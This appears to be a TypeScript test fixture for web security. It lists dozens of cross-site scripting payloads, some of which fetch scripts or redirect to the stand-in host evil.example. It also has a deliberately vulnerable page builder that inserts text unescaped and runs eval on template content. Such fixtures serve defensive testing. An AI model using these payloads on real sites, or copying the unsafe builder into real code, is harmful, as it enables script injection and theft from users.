/**
 * Texts that become markup or code where a page forgets to treat them as text. Each sets `pwned`, opens a dialog,
 * requests something of `evil.example`, or adds an element or an attribute that no page of ours has.
 */
const SCRIPTS = [
  '<script>pwned=1</script>',
  '<ScRiPt src=//evil.example/1.js></sCrIpT>',
  '</script><script>pwned=2</script>',
  '</title><script>pwned=3</script>',
  '</textarea></style><script>pwned=4</script>',
  '--><script>pwned=5</script><!--',
  ']]><script>pwned=6</script>',
  '<scr<script>ipt>pwned=7</scr</script>ipt>',
  '</option></select><script>pwned=8</script>',
  '<script type=module>import("//evil.example/2.js")</script>',
];

const HANDLERS = [
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(2)//',
  '<body onload=alert(3)>',
  '<input autofocus onfocus=alert(4)>',
  '<details open ontoggle=alert(5)>',
  '<video><source onerror=alert(6)></video>',
  '<iframe srcdoc="<script>parent.pwned=9</script>"></iframe>',
  '<marquee onstart=alert(7)>',
  '<object data=javascript:alert(8)>',
  '<x contenteditable onblur=alert(9) autofocus>',
];

const URLS = [
  'javascript:alert(10)',
  ' jAvAsCrIpT:alert(11)',
  'java\tscript:alert(12)',
  'data:text/html,<script>alert(13)</script>',
  '<a href="javascript:alert(14)">a</a>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><button>b</button></form>',
  '<link rel=stylesheet href=//evil.example/3.css>',
  '//evil.example/4',
];

const PICTURES = [
  '<svg onload=alert(15)>',
  '<svg><script>pwned=10</script></svg>',
  '<svg><animate onbegin=alert(16) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(17)"><text>t</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(18)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
  '</svg></g><img src=x onerror=alert(19)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(20)>',
];

const TEMPLATES = ['{{constructor.constructor("pwned=11")()}}', '${pwned=12}', '{{pwned=13}}'];

const BREAKOUTS = [
  '"><img src=x onerror=alert(21)>',
  "'><img src=x onerror=alert(22)>",
  '" onmouseover="pwned=18" x="',
  "' onmouseover='pwned=19' x='",
  'x onmouseover=pwned=20',
  '"-(pwned=14)-"',
  "'-(pwned=15)-'",
  '\\"-(pwned=16)//',
  '`-(pwned=17)-`',
];

const ENCODED = [
  '&lt;img src=x onerror=alert(26)&gt;',
  '&#60;img src=x onerror=alert(27)&#62;',
  '&quot; onmouseover=&quot;pwned=21',
  '\\u003cimg src=x onerror=alert(29)\\u003e',
  '\\x3cimg src=x onerror=alert(30)\\x3e',
  '%3Cimg src=x onerror=alert(31)%3E',
  // The overlong form of `<` in UTF-8, and characters that some software maps to `<`, `>` and `"`.
  '%C0%BCimg src=x onerror=alert(32)%C0%BE',
  '\uff1cimg src=x onerror=alert(33)\uff1e',
];

const STYLES = [
  '</style><img src=x onerror=alert(34)>',
  '<style>@import "//evil.example/5.css";</style>',
  'background:url(//evil.example/6.png)',
  '<p style="background:url(//evil.example/7.png)">p</p>',
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...URLS,
  ...PICTURES,
  ...TEMPLATES,
  ...BREAKOUTS,
  ...ENCODED,
  ...STYLES,
];

const ENTITIES: Readonly<Record<string, string>> = {
  '&lt;': '<',
  '&gt;': '>',
  '&#60;': '<',
  '&#62;': '>',
  '&quot;': '"',
};

/** What careless software makes of a text: decoded once, or several times, in each way that the texts are encoded. */
function decoded(text: string): string {
  return text
    .replace(/&lt;|&gt;|&#60;|&#62;|&quot;/g, (entity) => ENTITIES[entity] as string)
    .replace(/\\u003c|\\x3c|%3C|%C0%BC|\uff1c/g, '<')
    .replace(/\\u003e|\\x3e|%3E|%C0%BE|\uff1e/g, '>');
}

/** A page that writes a text wherever a page has texts, without a thought. */
export function carelessPage(text: string): string {
  const plain = decoded(text);
  const island = JSON.stringify({ text });
  return `<!doctype html><html><head><title>${text}</title><style>p { ${text} }</style></head><body>
    <p>${text}</p><p>${plain}</p><p title="${plain}">1</p><p title='${text}'>2</p><p title=${text}>3</p>
    <p style="${text}">4</p><a href="${text}">5</a><img src="${text}"><select><option>${text}</option></select>
    <svg><g><text>${text}</text></g></svg>
    <script>var a = "${text}";</script><script>var b = '${text}';</script><script>var c = \`${text}\`;</script>
    <script>var d = ${island};</script>
    <script>for (const [, code] of ${island}.text.matchAll(/\\{\\{(.*?)\\}\\}/g)) (0, eval)(code);</script>
    </body></html>`;
}
